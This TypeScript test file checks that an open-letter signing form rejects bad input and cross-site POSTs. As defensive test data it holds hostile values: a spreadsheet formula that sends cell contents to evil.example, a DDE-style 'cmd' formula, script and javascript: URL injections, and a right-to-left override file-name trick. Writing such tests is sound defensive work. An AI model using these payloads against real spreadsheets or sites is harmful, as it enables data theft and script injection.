import { parse } from 'node-html-parser';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { writeCounts } from '../support/database.ts';
import { formStamp, letterSlug, sign, signUp, submitForm } from '../support/forms.ts';
import { startServer, type RunningServer } from '../support/server.ts';

let server: RunningServer;
const signPath = `/letters/${letterSlug}/?_action=sign`;

beforeAll(async () => {
  server = await startServer({ SIGN_MIN_SECONDS: '0' });
});
afterAll(async () => {
  await server?.stop();
});

/** The error shown next to a field on the page after the redirect. */
const fieldError = (html: string, field: string) => parse(html).querySelector(`#sign-${field}-error`)?.text;

const formula = 'This cannot start with =, +, - or @: spreadsheets run such text as a formula. Please begin with a word or a number.';
const webAddress = 'Please leave out web addresses, such as example.org or www.example.org: give your website in its own field.';

describe('a sign-up with a bad field', () => {
  const cases: { label: string; change: Record<string, string>; field: string; message: string }[] = [
    { label: 'a missing organization name', change: { organization: '' }, field: 'organization', message: 'Fill in this field.' },
    { label: 'a name of 201 characters', change: { organization: 'x'.repeat(201) }, field: 'organization', message: 'This is too long; please shorten it.' },
    { label: 'a statement of 281 characters', change: { statement: 'y'.repeat(281) }, field: 'statement', message: 'This is too long; please shorten it.' },
    { label: 'a control character', change: { organization: 'Bell\u0007 Org' }, field: 'organization', message: 'This contains characters that cannot be shown; please retype it.' },
    { label: 'a right-to-left override', change: { contactName: 'Ana\u202Egnp.exe' }, field: 'contactName', message: 'This contains characters that cannot be shown; please retype it.' },
    { label: 'a line break in a one-line field', change: { contactRole: 'Director\nof everything' }, field: 'contactRole', message: 'This contains characters that cannot be shown; please retype it.' },
    { label: 'HTML', change: { organization: '<b>Bold</b> NGO' }, field: 'organization', message: 'Please leave out the characters < and >.' },
    { label: 'a script in the statement', change: { statement: '<script>alert(1)</script>' }, field: 'statement', message: 'Please leave out the characters < and >.' },
    { label: 'an address without a domain', change: { email: 'ana@localhost' }, field: 'email', message: 'Enter an email address like name@organization.org.' },
    { label: 'a javascript: website', change: { website: 'javascript:alert(1)' }, field: 'website', message: 'Enter a web address like ngo.kz or https://ngo.kz.' },
    { label: 'an unknown country', change: { country: 'XX' }, field: 'country', message: 'Choose one of the options.' },
    { label: 'an unknown organization type', change: { orgType: 'government' }, field: 'orgType', message: 'Choose one of the options.' },
    { label: 'an unknown listing', change: { listing: 'hidden' }, field: 'listing', message: 'Choose one of the options.' },
    { label: 'a statement a spreadsheet would run, across two lines', change: { statement: '=HYPERLINK("https://evil.example/?"&A2,\n"Open")' }, field: 'statement', message: formula },
    { label: 'a name a spreadsheet would run', change: { organization: '@SUM(1+1) Media' }, field: 'organization', message: formula },
    { label: 'a contact name a spreadsheet would run', change: { contactName: '+1+cmd|A0' }, field: 'contactName', message: formula },
    { label: 'a contact role a spreadsheet would run', change: { contactRole: '-Director' }, field: 'contactRole', message: formula },
    { label: 'a link in the name', change: { organization: 'Great deals at evil.example/offer' }, field: 'organization', message: webAddress },
    { label: 'a web address in the name', change: { organization: 'Cheap pills www.pills.example' }, field: 'organization', message: webAddress },
    { label: 'a domain in the name', change: { organization: 'Cheap pills at pills.com' }, field: 'organization', message: webAddress },
  ];

  it.each(cases)('($label) shows the error next to the field, keeps what was typed and writes nothing', async ({ change, field, message }) => {
    const before = writeCounts(server.databasePath);
    const fields = signUp({ ...change });
    const result = await sign(server, fields);
    expect(result.status).toBe(303);
    expect(fieldError(result.html, field)).toBe(message);
    const page = parse(result.html);
    expect(page.querySelector('#sign-contactName')?.getAttribute('value')).toBe(fields.contactName);
    expect(page.querySelector(`#sign-${field}`)?.getAttribute('aria-invalid') ?? page.querySelector(`#sign-${field} input`)?.getAttribute('aria-invalid') ?? 'true').toBe('true');
    expect(writeCounts(server.databasePath)).toEqual(before);
  });

  it('without consent asks for it and writes nothing', async () => {
    const before = writeCounts(server.databasePath);
    const { consent: _consent, ...fields } = signUp();
    const result = await sign(server, fields);
    expect(fieldError(result.html, 'consent')).toBe('Tick this box to sign: we cannot store your details without your agreement.');
    expect(writeCounts(server.databasePath)).toEqual(before);
  });

  it('shows its errors in the page’s language', async () => {
    const result = await sign(server, signUp({ organization: '' }), '/ru');
    expect(fieldError(result.html, 'organization')).toBe('Заполните это поле.');
    const ru = await sign(server, signUp({ organization: 'Скидки на pills.com', statement: '=1+1\nи ещё' }), '/ru');
    expect(fieldError(ru.html, 'organization')).toMatch(/^Пожалуйста, уберите веб-адреса/);
    expect(fieldError(ru.html, 'statement')).toMatch(/^Текст не может начинаться с =, \+, - или @/);
    const kk = await sign(server, signUp({ organization: 'http://pills.example', statement: '@SUM(1)' }), '/kk');
    expect(fieldError(kk.html, 'organization')).toMatch(/^Веб-мекенжайларды/);
    expect(fieldError(kk.html, 'statement')).toMatch(/^Мәтін =, \+, - немесе @ таңбасынан басталмауы керек/);
  });

  it('keeps =, +, - and @ anywhere but at the start, and dots that make no address', async () => {
    const before = writeCounts(server.databasePath);
    const fields = signUp({ organization: 'St.Petersburg Centre No.1 - Almaty', statement: 'Access = life.\n-- and +1 from us @ home', contactRole: 'Director - Almaty' });
    const result = await sign(server, fields);
    expect(parse(result.html).querySelector('.error-summary')).toBeNull();
    expect(writeCounts(server.databasePath).signatures).toBe(before.signatures! + 1);
  });
});

describe('a sign-up that is not what the form sends', () => {
  it('with an unknown field is refused with a message and writes nothing', async () => {
    const before = writeCounts(server.databasePath);
    const result = await sign(server, signUp({ isAdmin: '1' }));
    expect(parse(result.html).querySelector('.error-summary')?.text).toContain('The form could not be read');
    expect(writeCounts(server.databasePath)).toEqual(before);
  });

  it('with a file where text belongs writes nothing', async () => {
    const before = writeCounts(server.databasePath);
    const form = new FormData();
    for (const [name, value] of Object.entries({ started: await formStamp(server, `/letters/${letterSlug}/`), ...signUp() })) form.set(name, value);
    form.set('organization', new Blob(['not text']), 'org.txt');
    const response = await server.fetch(signPath, { method: 'POST', headers: { Origin: server.url }, body: form });
    expect(response.status).toBe(303);
    expect(writeCounts(server.databasePath)).toEqual(before);
  });

  it('for a letter that does not exist says so and writes nothing', async () => {
    const before = writeCounts(server.databasePath);
    const started = await formStamp(server, `/letters/${letterSlug}/`);
    const result = await submitForm(server, signPath, { started, ...signUp(), letter: 'no-such-letter' });
    expect(parse(result.html).querySelector('.error-summary')?.text).toContain('This letter does not exist.');
    expect(writeCounts(server.databasePath)).toEqual(before);
  });

  it('as JSON instead of a form is refused', async () => {
    const before = writeCounts(server.databasePath);
    const response = await server.fetch(`/_actions/sign`, { method: 'POST', headers: { Origin: server.url, 'Content-Type': 'application/json' }, body: JSON.stringify(signUp()) });
    expect(response.status).toBeGreaterThanOrEqual(400);
    expect(response.status).toBeLessThan(500);
    expect(writeCounts(server.databasePath)).toEqual(before);
  });

  it('larger than 64 KB is refused with 413', async () => {
    const before = writeCounts(server.databasePath);
    const response = await server.fetch(signPath, {
      method: 'POST',
      headers: { Origin: server.url, 'Content-Type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ ...signUp(), statement: 'z'.repeat(100_000) }),
    });
    expect(response.status).toBe(413);
    await response.body?.cancel();
    expect(writeCounts(server.databasePath)).toEqual(before);
  });
});

describe('a cross-site POST', () => {
  it.each([
    ['from another origin', { Origin: 'https://evil.example' }],
    ['with no Origin header', {}],
  ])('%s is refused with 403 and writes nothing', async (_label, headers) => {
    const before = writeCounts(server.databasePath);
    const response = await server.fetch(signPath, {
      method: 'POST',
      headers: { ...headers, 'Content-Type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ started: await formStamp(server, `/letters/${letterSlug}/`), ...signUp() }),
    });
    expect(response.status).toBe(403);
    expect(writeCounts(server.databasePath)).toEqual(before);
  });
});

describe('refreshing after submitting', () => {
  it('never submits again: the form answers with a redirect to a plain GET', async () => {
    const before = writeCounts(server.databasePath);
    const result = await submitForm(server, signPath, { started: await formStamp(server, `/letters/${letterSlug}/`), ...signUp() });
    expect(result.status).toBe(303);
    expect(result.location).not.toContain('_action');
    const after = writeCounts(server.databasePath);
    expect(after.signatures).toBe(before.signatures! + 1);
    // the page the browser refreshes is the GET it was redirected to
    await server.fetch(result.location!);
    expect(writeCounts(server.databasePath).signatures).toBe(after.signatures);
  });
});
